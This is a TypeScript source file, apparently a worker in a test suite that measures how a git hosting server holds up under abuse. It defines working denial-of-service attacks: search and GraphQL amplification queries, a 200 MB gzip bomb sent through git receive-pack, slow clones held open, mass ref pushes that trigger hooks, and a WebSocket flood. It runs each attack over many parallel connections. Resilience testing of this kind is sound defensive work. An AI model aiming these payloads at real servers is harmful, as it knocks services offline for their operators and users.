import { createHash, randomBytes } from 'node:crypto';
import { Agent, type ClientRequest, type RequestOptions, request } from 'node:http';
import { setPriority } from 'node:os';
import { gzipSync } from 'node:zlib';
import { importPKCS8, SignJWT } from 'jose';
import { fetchOf } from './attack-victims.ts';
import type { AttacksWorld } from './attacks-world.ts';

/** Responses of the attacker by status; `cut` counts connections that ended without one. */
export type AttackTally = Record<string, number>;

/** Connections that repeat the attack, each as soon as the last attempt has ended. */
const connections: Record<string, number> = { 'slow-clones': 32 };
const usualConnections = 10;
/** WebSockets that the attacker tries to hold open. */
const heldSockets = 1_000;

interface Attempt {
  method?: string;
  path: string;
  headers?: Record<string, string>;
  body?: string | Buffer;
  /** Address of this machine that the request comes from. */
  from?: string;
  /** The response is not read: the request lasts until the server ends it. */
  isHeld?: boolean;
}

/** Stop words: too short for a trigram index, present in most articles, and as many as a search accepts. */
const stopWords = 'of to in is it he on as be at we me or by so if an up no do';

const json = { 'content-type': 'application/json', 'user-agent': 'attacker' };

const graphql = (query: string, headers: Record<string, string> = {}): Attempt => ({
  method: 'POST',
  path: '/graphql',
  headers: { ...json, ...headers },
  body: JSON.stringify({ query }),
});

/** 5.7 KB of conflicting fields, which graphql-js compares pair by pair. */
const conflicts = `{${Array.from({ length: 400 }, (_, at) => `a:article(databaseId: ${at}){id}`)
  .join(' ')
  .slice(0, 5_700)
  .replace(/[^}]*$/, '')}}`;

const fetchAttempt = (repository: string, head: string): Attempt => ({
  method: 'POST',
  path: `/${repository}.git/git-upload-pack`,
  headers: { 'content-type': 'application/x-git-upload-pack-request', 'git-protocol': 'version=2' },
  body: fetchOf(head),
});

const pushHeaders = (login: string, token: string): Record<string, string> => ({
  'content-type': 'application/x-git-receive-pack-request',
  authorization: `Basic ${Buffer.from(`${login}:${token}`).toString('base64')}`,
});

const pushAttempt = (repository: string, login: string, token: string, body: Buffer): Attempt => ({
  method: 'POST',
  path: `/${repository}.git/git-receive-pack`,
  headers: pushHeaders(login, token),
  body,
});

const gzipHeaders = (login: string, token: string): Pick<Attempt, 'headers'> => ({
  headers: { ...pushHeaders(login, token), 'content-encoding': 'gzip' },
});

/** The attacks: each returns a function that builds one attempt. */
const attacks: Record<string, (world: AttacksWorld) => Promise<() => Attempt>> = {
  search: async () => () => ({
    path: `/api/v1/articles/?search=${encodeURIComponent(stopWords)}`,
    headers: { 'user-agent': 'attacker' },
  }),
  'search-aliases': async () => {
    const fields = Array.from({ length: 20 }, (_, at) => `a${at}:articles(search:"${stopWords}"){nodes{id}}`);
    return () => graphql(`{${fields.join(' ')}}`);
  },
  pattern: async ({ token, ruled }) => {
    // Random letters: with nearly every letter the automaton reaches a new state.
    const message = Array.from(randomBytes(1_000_000), byte => (byte % 2 === 0 ? 'a' : 'b')).join('');
    let at = 0;
    return () => ({
      method: 'PUT',
      path: `/repos/${ruled}/contents/file-${at++}.txt`,
      headers: { ...json, authorization: `Bearer ${token}` },
      body: JSON.stringify({ message, content: Buffer.from(`${at}`).toString('base64') }),
    });
  },
  validation: async () => () => graphql(conflicts),
  deliveries: async ({ appId, appKey }) => {
    const key = await importPKCS8(appKey, 'RS256');
    const seconds = Math.floor(Date.now() / 1000);
    const claims = { iat: seconds - 30, exp: seconds + 500, iss: String(appId) };
    const jwt = await new SignJWT(claims).setProtectedHeader({ alg: 'RS256' }).sign(key);
    const fields = Array.from(
      { length: 18 },
      (_, at) => `a${at}:viewerApp{webhook{deliveries(first:100){nodes{request{payload}}}}}`,
    );
    return () => graphql(`{${fields.join(' ')}}`, { authorization: `Bearer ${jwt}` });
  },
  archive:
    async ({ large }) =>
    () => ({
      path: `/codeload/${large}/legacy.tar.gz/refs/heads/main`,
      headers: { 'user-agent': 'attacker' },
    }),
  'git-cpu':
    async ({ large, heads }) =>
    () => ({ ...fetchAttempt(large, heads.large) }),
  gzip: async ({ token, login, ruled, heads }) => {
    const head = `${'0'.repeat(40)} ${heads.ruled} refs/heads/unpacked\0report-status`;
    const line = `${(head.length + 4).toString(16).padStart(4, '0')}${head}0000`;
    const body = gzipSync(Buffer.concat([Buffer.from(line), Buffer.alloc(200_000_000)]));
    return () => ({ ...pushAttempt(ruled, login, token, body), ...gzipHeaders(login, token) });
  },
  'slow-clones': async ({ large, heads }) => {
    let at = 0;
    return () => ({ ...fetchAttempt(large, heads.large), from: `127.1.0.${1 + (at++ % 4)}`, isHeld: true });
  },
  'slow-json':
    async ({ token, large, largeBlob }) =>
    () => ({
      path: `/repos/${large}/git/blobs/${largeBlob}`,
      headers: { 'user-agent': 'attacker', authorization: `Bearer ${token}` },
      isHeld: true,
    }),
  pictures: async () => {
    let at = 0;
    return () => ({ path: `/pictures/flood-${at++}.svg`, headers: { 'user-agent': 'attacker' } });
  },
  compare:
    async ({ token, compared }) =>
    () => ({
      path: `/repos/${compared}/compare/main...side`,
      headers: { 'user-agent': 'attacker', authorization: `Bearer ${token}` },
    }),
  commits:
    async ({ token, ruled }) =>
    () => ({
      path: `/repos/${ruled}/commits/main`,
      headers: { 'user-agent': 'attacker', authorization: `Bearer ${token}` },
    }),
  'silent-hooks': async ({ token, login, hooked, heads }) => {
    let at = 0;
    return () => {
      const push = at++;
      const commands = Array.from({ length: 60 }, (_, nth) => {
        const text = `${'0'.repeat(40)} ${heads.hooked} refs/heads/p${push}-${nth}${nth === 0 ? '\0report-status' : ''}`;
        return `${(text.length + 4).toString(16).padStart(4, '0')}${text}`;
      }).join('');
      const pack = Buffer.from('5041434b0000000200000000', 'hex');
      const sum = createHash('sha1').update(pack).digest();
      return pushAttempt(hooked, login, token, Buffer.concat([Buffer.from(`${commands}0000`), pack, sum]));
    };
  },
  sockets: async () => () => ({
    path: '/graphql',
    headers: {
      connection: 'Upgrade',
      upgrade: 'websocket',
      'sec-websocket-version': '13',
      'sec-websocket-key': 'dGhlIHNhbXBsZSBub25jZQ==',
      'sec-websocket-protocol': 'graphql-transport-ws',
    },
  }),
};

// A real attacker has its own machines, so this process must not use CPU time of the measured processes.
setPriority(19);

const [name = '', address = '', world = '{}'] = process.argv.slice(2);
const attack = attacks[name];
if (!attack || !process.send) throw new Error(`There is no attack ${name} for the runner to start.`);
const next = await attack(JSON.parse(world) as AttacksWorld);
const parallel = connections[name] ?? usualConnections;
const agent = new Agent({ keepAlive: true, maxSockets: parallel });
const { hostname, port } = new URL(address);
const tally: AttackTally = {};
const open = new Set<ClientRequest>();
let held = 0;
let isOver = false;

process.on('message', () => {
  isOver = true;
  process.send?.(tally);
  for (const one of open) one.destroy();
  setImmediate(() => process.exit(0));
});
process.on('disconnect', () => process.exit(0));

const count = (outcome: string): void => {
  tally[outcome] = (tally[outcome] ?? 0) + 1;
};

/** Resolves when the response has ended, successfully or not; an accepted WebSocket stays open and resolves at once. */
function attempt({ path, method = 'GET', headers = {}, body, from, isHeld = false }: Attempt): Promise<void> {
  return new Promise(resolve => {
    const isUpgrade = headers.upgrade !== undefined;
    const isAlone = isUpgrade || isHeld || from !== undefined;
    const options: RequestOptions = {
      hostname,
      port,
      path,
      method,
      headers,
      ...(from === undefined ? {} : { localAddress: from }),
      ...(isAlone ? {} : { agent }),
    };
    const sent = request(options, response => {
      count(String(response.statusCode));
      if (isHeld && response.statusCode === 200) response.pause();
      else response.resume();
      response.once('error', () => {});
      response.once('close', resolve);
    });
    open.add(sent);
    sent.once('close', () => open.delete(sent));
    sent.once('upgrade', (_response, socket) => {
      count('101');
      held++;
      socket.resume();
      socket.once('error', () => {});
      socket.once('close', () => held--);
      resolve();
    });
    sent.once('error', () => {
      if (!isOver) count('cut');
      resolve();
    });
    sent.end(body);
  });
}

async function repeat(): Promise<void> {
  while (!isOver) {
    if (held >= heldSockets) await new Promise(later => setTimeout(later, 10));
    else await attempt(next());
  }
}

await Promise.all(Array.from({ length: parallel }, repeat));
